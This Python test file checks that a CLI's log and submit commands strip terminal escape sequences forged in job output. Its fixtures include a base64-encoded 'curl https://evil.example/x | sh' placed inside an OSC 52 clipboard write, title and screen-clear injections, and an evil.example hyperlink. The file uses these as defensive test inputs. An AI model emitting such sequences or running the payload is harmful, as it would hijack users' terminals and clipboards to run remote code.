"""A job's output on the user's terminal: escape sequences a contributor forges never act.

`compound logs` and `compound submit` (following live) run on a real pseudo-terminal against
a real coordinator; the job's output is reported by a FakeAgent (no Docker). On a terminal
only text, newlines, tabs, carriage returns and SGR colours pass; piped, the output is the
stored bytes exactly.
"""

from __future__ import annotations

import base64
import os
import pty
import re
import select
import subprocess
import sys
import threading
import time
import tty
from pathlib import Path

import pytest

from compound.cli.job_output import TerminalSanitizer
from fake_agent import FakeAgent, job_with_output
from support import Coordinator, product_env, run_cli

ESC = "\x1b"
PAYLOAD = base64.b64encode(b"curl https://evil.example/x | sh\n").decode()

# What a forging contributor reports, and what the terminal may show of each record.
HOSTILE = [
    ("stdout", f"before\n{ESC}]52;c;{PAYLOAD}\x07", "before\n"),  # OSC 52: set the clipboard
    ("stdout", f"{ESC}]0;owned{ESC}\\{ESC}]2;owned too\x07", ""),  # window titles
    ("stdout", f"{ESC}[2J{ESC}[3J{ESC}[H{ESC}c", ""),  # clear screen and scrollback, reset
    ("stdout", f"{ESC}[10;20H{ESC}[5A{ESC}[3B{ESC}7{ESC}8", ""),  # cursor moves
    ("stdout", f"{ESC}[?1049h{ESC}[?25l{ESC}[6n{ESC}[21t", ""),  # alt screen, reports
    ("stdout", f"{ESC}P$qm{ESC}\\", ""),  # DCS: a request to the terminal
    ("stdout", f"{ESC}]8;;https://evil.example/{ESC}\\link{ESC}]8;;{ESC}\\\n", "link\n"),
    # C1 controls (CSI, OSC, DCS, ST, NEL): shown as ␛ and their letter, inert.
    ("stdout", "c1:\x9b2J\x9d52;c;eA==\x07\x90q\x9c\x85\n", "c1:␛[2J␛]52;c;eA==␇␛Pq␛\\␛E\n"),
    (
        "stdout",
        f"{ESC}[31mred{ESC}[0m plain\tok\r50%\r100%\n",
        f"{ESC}[31mred{ESC}[0m plain\tok\r50%\r100%\n",
    ),
    ("stdout", f"bell\x07 nul\x00 del\x7f lone{ESC}\n", "bell␇ nul␀ del␡ lone␛\n"),
    ("stdout", f"split {ESC}", "split "),  # an OSC 52 cut across two records
    ("stdout", f"]52;c;{PAYLOAD}\x07end\n", "end\n"),
    (
        "stderr",
        f"{ESC}]52;c;ZXJy\x07{ESC}[1;33mwarning{ESC}[0m{ESC}[2K\n",
        f"{ESC}[1;33mwarning{ESC}[0m\n",
    ),
    ("stderr", f"{ESC}[32mleft green\n", f"{ESC}[32mleft green\n"),
]
RECORDS = [(stream, data) for stream, data, _ in HOSTILE]
STDOUT = "".join(data for stream, data, _ in HOSTILE if stream == "stdout")
STDERR = "".join(data for stream, data, _ in HOSTILE if stream == "stderr")
SHOWN_STDOUT = "".join(shown for stream, _, shown in HOSTILE if stream == "stdout")
# The job left stderr green: the CLI resets it before the prompt comes back.
SHOWN_STDERR = "".join(shown for stream, _, shown in HOSTILE if stream == "stderr") + f"{ESC}[0m"

SGR = re.compile(rb"\x1b\[[0-9;:]*m")
# The CLI's own status line (`compound submit` while queued) is the one other sequence.
OWN_STATUS = re.compile(rb"\r\x1b\[2K")


class PtyRun:
    """`compound ARGS` with stdout and stderr on a pseudo-terminal in raw mode (bytes arrive
    as written, no newline translation); every byte it sends there is collected."""

    def __init__(self, *args: str, coordinator: Coordinator) -> None:
        master, slave = pty.openpty()
        tty.setraw(slave)
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "compound", *args],
            stdin=subprocess.DEVNULL,
            stdout=slave,
            stderr=slave,
            env=product_env(COMPOUND_COORDINATOR=coordinator.url),
        )
        os.close(slave)
        self._master = master
        self._chunks: list[bytes] = []
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        while True:
            ready, _, _ = select.select([self._master], [], [], 0.5)
            if not ready:
                if self.proc.poll() is not None:
                    return
                continue
            try:
                data = os.read(self._master, 65536)
            except OSError:  # EIO: every writer of the terminal has closed it
                return
            if not data:
                return
            self._chunks.append(data)

    def finish(self, timeout_s: float = 60) -> tuple[int, bytes]:
        """The exit code and everything written to the terminal."""
        code = self.proc.wait(timeout=timeout_s)
        self._reader.join(timeout_s)
        os.close(self._master)
        return code, b"".join(self._chunks)


def assert_nothing_raw(shown: bytes) -> None:
    """No escape sequence but SGR, no C0 control but newline, tab and CR, and no C1 control
    reaches the terminal."""
    rest = SGR.sub(b"", OWN_STATUS.sub(b"", shown))
    assert b"\x1b" not in rest, rest
    controls = {chr(c) for c in range(0x20)} - {"\n", "\t", "\r"}
    text = rest.decode("utf-8")
    assert not [char for char in text if char in controls or 0x7F <= ord(char) <= 0x9F], text
    assert PAYLOAD.encode() not in shown and b"owned" not in shown and b"evil.example" not in shown


@pytest.mark.timeout(60)
def test_logs_on_a_terminal_shows_no_escape_sequence_raw(coordinator: Coordinator) -> None:
    """`compound logs` on a TTY drops OSC 52, titles, clear screen, cursor moves, DCS and
    hyperlinks, shows C0/C1 controls inert, keeps text, CR, tabs and colours."""
    job_id = job_with_output(coordinator, RECORDS)
    code, shown = PtyRun("logs", job_id, coordinator=coordinator).finish()
    assert code == 0
    assert_nothing_raw(shown)
    assert shown.decode("utf-8") == SHOWN_STDOUT + SHOWN_STDERR


@pytest.mark.timeout(60)
def test_logs_piped_is_byte_identical(coordinator: Coordinator, tmp_path: Path) -> None:
    """Piped or redirected to a file, `compound logs` writes the job's output unchanged,
    escape sequences and all."""
    job_id = job_with_output(coordinator, RECORDS)
    piped = run_cli("logs", job_id, coordinator=coordinator)
    assert piped.returncode == 0
    assert piped.stdout == STDOUT.encode("utf-8")
    assert piped.stderr == STDERR.encode("utf-8")
    saved = tmp_path / "out.log"
    with saved.open("wb") as file:
        subprocess.run(
            [sys.executable, "-m", "compound", "logs", job_id],
            stdout=file,
            stderr=subprocess.DEVNULL,
            env=product_env(COMPOUND_COORDINATOR=coordinator.url),
            check=True,
            timeout=60,
        )
    assert saved.read_bytes() == STDOUT.encode("utf-8")


@pytest.mark.timeout(60)
def test_submit_following_live_on_a_terminal_shows_no_escape_sequence_raw(
    coordinator: Coordinator, tmp_path: Path
) -> None:
    """`compound submit` following a job on a TTY shows its output as it is reported, with
    the same sequences dropped or inert as `compound logs`."""
    agent = FakeAgent(coordinator)
    script = tmp_path / "job.py"
    script.write_text("print('output reported by a fake agent')\n")
    run = PtyRun("submit", str(script), coordinator=coordinator)
    try:
        job = agent.recv_type("job")
        seq = job["first_seq"]
        for record in RECORDS:  # one batch per record: the CLI follows them as they come
            seq = agent.report(job, [record], seq)
        agent.done(job, last_seq=seq - 1)
        code, shown = run.finish()
    finally:
        agent.close()
    assert code == 0
    assert_nothing_raw(shown)
    text = OWN_STATUS.sub(b"", shown).decode("utf-8")
    for line in ("before\n", "link\n", "c1:␛[2J␛]52;c;eA==␇␛Pq␛\\␛E\n", "split end\n"):
        assert line in text
    assert f"{ESC}[31mred{ESC}[0m plain\tok\r50%\r100%\n" in text
    assert text.endswith(f"left green\n{ESC}[0m"), text


def test_a_sequence_split_anywhere_is_sanitised_alike() -> None:
    """Fed in two pieces cut at any character, the hostile output gives what it gives whole;
    an over-long CSI is dropped whole, never passed as SGR."""
    whole = TerminalSanitizer().feed(STDOUT)
    assert whole == SHOWN_STDOUT
    for cut in range(len(STDOUT)):
        pieces = TerminalSanitizer()
        assert pieces.feed(STDOUT[:cut]) + pieces.feed(STDOUT[cut:]) == whole, cut
    assert TerminalSanitizer().feed(f"{ESC}[{'1;' * 100}mX{ESC}[38;5;208mY") == f"X{ESC}[38;5;208mY"


def test_sanitising_a_large_log_is_fast() -> None:
    """Ten megabytes of coloured output with a long OSC string pass in well under a second
    or two (the filter skips plain text and string bodies with a regular expression)."""
    line = f"{ESC}[32mok{ESC}[0m step done, loss 0.123 {ESC}]0;{'t' * 200}\x07\n"
    text = line * (10_000_000 // len(line))
    started = time.monotonic()
    shown = TerminalSanitizer().feed(text)
    assert time.monotonic() - started < 3
    assert shown.count("\n") == text.count("\n") and "\x07" not in shown
